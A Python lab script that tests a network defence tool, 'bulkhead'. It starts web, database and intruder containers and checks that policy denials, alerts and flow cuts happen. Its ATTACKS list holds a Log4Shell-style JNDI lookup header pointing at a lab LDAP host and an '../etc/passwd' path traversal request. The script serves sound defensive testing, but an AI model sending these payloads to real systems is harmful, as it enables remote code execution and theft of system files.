#!/usr/bin/env python3
"""Attack and defence between three containers, in one screen.

A web server, a database and an intruder share a bridge; bulkhead guards it. The lab sends what is allowed, what the
policy forbids and two attacks, then shows what was denied, what alerted over which channel, and which flow was cut
after how long. Exit status 0 only when all of it happened. Nothing outlives the lab.
"""
import argparse
import pathlib
import shutil
import signal
import sys
import tempfile
import time

import testbed
from testbed import Container, HttpConversation, LabError, read_events, same_address, wait_until

HERE = pathlib.Path(__file__).resolve().parent
SETTINGS = """\
capture:
  interfaces: [{bridge}]
workers: 2
log-dir: {directory}
cache-dir: ""
policy: [{directory}/policy.yaml]
inventory: {directory}/inventory.yaml
signatures: [{directory}/lab.rules]
response:
  mode: enforce
  last-step: flow
  ttl: 60s
output:
  flush-interval-ms: 50
"""
ATTACKS = (  # what the intruder sends to the web server in the middle of an ordinary conversation
    (9000001, 4, "/", "X-Api-Version: ${jndi:ldap://10.77.0.66:1389/a}\r\n"),
    (9000002, 6, "/?page=../../../../etc/passwd", ""),
)

CUT = ("connection reset by peer", "broken pipe")  # at once: both ends were told, neither waits


class Screen:
    """Aligned rows with a mark; colours on a terminal only."""

    def __init__(self):
        self.colour = sys.stdout.isatty()
        self.passed = self.failed = 0

    def paint(self, code, text):
        return f"\033[{code}m{text}\033[0m" if self.colour else text

    def title(self, text, remark=""):
        print(self.paint(1, text) + (f"  {remark}" if remark else ""), flush=True)

    def row(self, fine, *columns):
        """Columns come as (text, width); `fine` None is a remark that counts for nothing."""
        if fine is not None:
            self.passed += bool(fine)
            self.failed += not fine
        mark = {None: "    ", True: self.paint(32, "ok  "), False: self.paint("1;31", "FAIL")}[fine]
        print(f"  {mark} " + " ".join(f"{text:<{width}}" for text, width in columns).rstrip(), flush=True)

    def progress(self, text):
        if self.colour:
            print(f"\r\033[K{text}", end="", flush=True)


class Lab:
    def __init__(self, bed, binary, screen):
        self.bed, self.binary, self.screen = bed, binary, screen
        self.watch = None

    def start(self):
        directory = self.bed.directory
        self.screen.progress("starting nginx, redis and bulkhead ...")
        self.bed.start_nginx("web")
        self.bed.start_redis("db")
        for name in ("policy.yaml", "lab.rules"):
            shutil.copy(HERE / name, directory / name)
        self.bed.write_inventory()
        self.bed.start_daemon(self.binary, SETTINGS.format(bridge=testbed.BRIDGE, directory=directory))
        self.watch = self.bed.start_watch(self.binary)
        time.sleep(0.3)  # the subscription has no answer to wait for
        self.screen.progress("")

    def show_containers(self):
        self.screen.title("bulkhead lab", "three containers on a bridge; bulkhead reads copies, the kernel enforces")
        servers = {"web": "nginx", "db": "redis", "intruder": "ordinary until it attacks"}
        for each in self.bed.containers.values():
            self.screen.row(None, (each.name, 10), (each.ip4, 12), (each.ip6, 10), (servers[each.name], 0))

    # --- benign ---

    def redis(self, name, family, *command, timeout=1.5):
        db = self.bed.db.address(family)
        started = time.monotonic()
        done = self.bed.inside(name, "timeout", timeout, "redis-cli", "-h", db, *command, timeout=timeout + 5)
        return done.stdout.strip(), time.monotonic() - started

    def web_status(self, name, family):
        url = f"http://{testbed.url_host(self.bed.web.address(family))}/"
        return self.bed.inside(name, "curl", "-s", "-o", "/dev/null", "-m", "2", "-w", "%{http_code}", url).stdout

    def show_benign(self, title):
        self.screen.title(title)
        stored = [self.redis("web", family, "set", f"key{family}", "value")[0] for family in (4, 6)]
        self.screen.row(stored == ["OK", "OK"], ("web -> db", 20), ("redis SET over IPv4, IPv6", 34),
                        (", ".join(text or "no answer" for text in stored), 0))
        pages = [self.web_status("intruder", family) for family in (4, 6)]
        self.screen.row(pages == ["200", "200"], ("intruder -> web", 20), ("GET / over IPv4, IPv6", 34),
                        (", ".join(pages), 0))

    # --- denied by policy ---

    def show_denied(self):
        self.screen.title("denied by policy", "the kernel refuses the first packet")
        tries = {}
        for family in (4, 6):
            tries[family] = self.redis("intruder", family, "config", "get", "*")
        for family, (answer, seconds) in tries.items():
            event = self.find_policy_event(family)
            rule = "no event names the rule"
            if event:
                rule = f"{event['rule']}  {event['place']}"
            self.screen.row(answer == "" and event is not None, ("intruder -> db", 16),
                            (f"redis CONFIG over IPv{family}", 24),
                            (f"no answer, {seconds:.1f} s" if answer == "" else "ANSWERED", 17), (rule, 0))

    def find_policy_event(self, family):
        intruder, db = self.bed.intruder.address(family), self.bed.db.address(family)

        def search():
            for event in self.eve("drop"):
                policy = event.get("drop", {}).get("policy") or event.get("policy")
                if policy and same_address(event.get("src_ip", ""), intruder) and \
                        same_address(event.get("dest_ip", ""), db) and event.get("dest_port") == 6379:
                    place = pathlib.Path(policy.get("file", "?")).name + ":" + str(policy.get("line", "?"))
                    return {"rule": policy.get("rule", "?"), "place": place}
            return None
        return self.wait_for(search)

    # --- attacks ---

    def show_attacks(self):
        conversations = [self.attack(*each) for each in ATTACKS]
        self.screen.title("alerts", "the same event over both channels")
        for each in conversations:
            eve = self.wait_for(lambda each=each: self.find_alert(self.eve("alert"), each))
            netlink = self.wait_for(lambda each=each: self.find_alert(read_events(self.watch), each))
            self.screen.row(bool(eve and netlink), (f"sid {each['sid']}", 20),
                            (eve["alert"]["signature"] if eve else "no alert", 42),
                            (f"EVE {'yes' if eve else 'NO'}", 8), (f"netlink {'yes' if netlink else 'NO'}", 0))
        self.screen.title("flows cut", "from the matching packet to the kernel's acknowledgement; other flows go on")
        for each in conversations:
            block = self.wait_for(lambda each=each: self.find_block(each))
            latency = block_latency_us(block)
            cut = each["before"] == 200 and each["after"] in CUT
            self.screen.row(bool(block) and latency is not None and cut,
                            (f"intruder:{each['port']} -> web:80", 26), (f"IPv{each['family']}", 4),
                            (f"{latency:.0f} us" if latency is not None else "no block event", 14),
                            (f"before: {each['before']}, next request: {each['after']}", 0))

    def attack(self, sid, family, path, header):
        """A request that is fine, the attack, and one more request on the same connection."""
        talk = HttpConversation(self.bed.intruder, self.bed.web.address(family))
        before = talk.request()
        self_cut = talk.request(path, header)
        time.sleep(0.05)
        after = talk.request() if isinstance(self_cut, int) else self_cut
        talk.close()
        return {"sid": sid, "family": family, "port": talk.local_port, "before": before, "after": after}

    def find_alert(self, events, attack):
        for event in events:  # EVE names the rule in its alert object, a netlink message directly
            sid = event.get("alert", {}).get("signature_id", event.get("sid"))
            if event.get("event_type") == "alert" and sid == attack["sid"] and \
                    attack["port"] in (event.get("src_port"), event.get("dest_port")):
                return event
        return None

    def find_block(self, attack):
        for event in self.eve("block"):
            ports = (event.get("src_port"), event.get("dest_port"))
            if attack["port"] in ports and event.get("block", {}).get("action") == "add":
                return event
        return None

    # --- events ---

    def eve(self, kind):
        return [event for event in read_events(self.bed.directory / "eve.json") if event.get("event_type") == kind]

    @staticmethod
    def wait_for(search, seconds=4):
        try:
            return wait_until(search, seconds, "event")
        except LabError:
            return None

    def show_all(self):
        self.show_containers()
        self.show_benign("benign traffic")
        self.show_denied()
        self.show_attacks()
        self.show_benign("benign traffic after the attacks")


def block_latency_us(event):
    if not event:
        return None
    value = event["block"].get("latency_us")
    return float(value) if value is not None else None


def parse_arguments():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bulkhead", default=HERE.parent.parent / "build/release/bulkhead", type=pathlib.Path,
                        help="the program to run (build/release/bulkhead)")
    parser.add_argument("--keep", metavar="DIR", type=pathlib.Path,
                        help="copy settings, logs and events there at the end")
    return parser.parse_args()


def main():
    arguments = parse_arguments()
    started = time.monotonic()
    testbed.need("ip", "ss", "nsenter", "nginx", "redis-server", "redis-cli", "curl", "timeout")
    if not arguments.bulkhead.is_file():
        raise LabError(f"{arguments.bulkhead} is not built (./dev build)")
    testbed.enter_own_world()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    containers = [Container("web", 10, {"app": "web"}), Container("db", 20, {"app": "db"}),
                  Container("intruder", 66, {"app": "batch"})]
    screen = Screen()
    with tempfile.TemporaryDirectory(prefix="bulkhead-lab-") as directory:
        try:
            with testbed.Testbed(directory, containers) as bed:
                lab = Lab(bed, arguments.bulkhead.resolve(), screen)
                lab.start()
                lab.show_all()
        finally:
            if arguments.keep:
                shutil.copytree(directory, arguments.keep, dirs_exist_ok=True)
    total = screen.passed + screen.failed
    verdict = f"{screen.passed} of {total} as they should be, in {time.monotonic() - started:.1f} s"
    screen.title(screen.paint("1;31" if screen.failed else "1;32", verdict))
    return 1 if screen.failed else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except LabError as error:
        print(f"lab: {error}", file=sys.stderr)
        sys.exit(1)
    except KeyboardInterrupt:
        print("\nlab: stopped", file=sys.stderr)
        sys.exit(130)
